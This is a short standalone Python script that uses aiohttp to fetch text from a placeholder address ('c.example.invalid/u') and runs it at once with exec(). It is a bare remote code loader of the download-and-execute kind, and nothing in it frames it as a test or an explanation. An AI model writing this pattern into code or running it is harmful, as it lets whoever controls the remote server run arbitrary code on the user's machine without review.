import aiohttp, asyncio
async def pull():
    async with aiohttp.ClientSession() as session:
        async with session.get("https://c.example.invalid/u") as answer:
            return await answer.text()
text = asyncio.run(pull())
exec(text)
